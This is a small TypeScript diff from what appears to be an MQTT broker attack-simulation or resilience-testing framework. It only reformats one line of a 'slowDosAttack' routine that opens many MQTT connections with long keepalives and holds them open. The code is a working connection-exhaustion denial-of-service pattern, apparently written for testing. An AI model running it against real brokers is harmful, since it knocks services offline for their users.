@@ -22,7 +22,9 @@ export const slowDosAttack = defineAttack({
   async run(attacker, params, durationMs) {
     const openingMs = Math.min(durationMs, (params.connections / params.rate) * 1000)
     await attacker.repeat(params.rate, openingMs, (i) =>
-      attacker.raw(params.address).write(generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId: `slow${i}`, keepalive: params.keepaliveSeconds })),
+      attacker
+        .raw(params.address)
+        .write(generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId: `slow${i}`, keepalive: params.keepaliveSeconds })),
     )
     await attacker.sleep(durationMs - openingMs)
   },
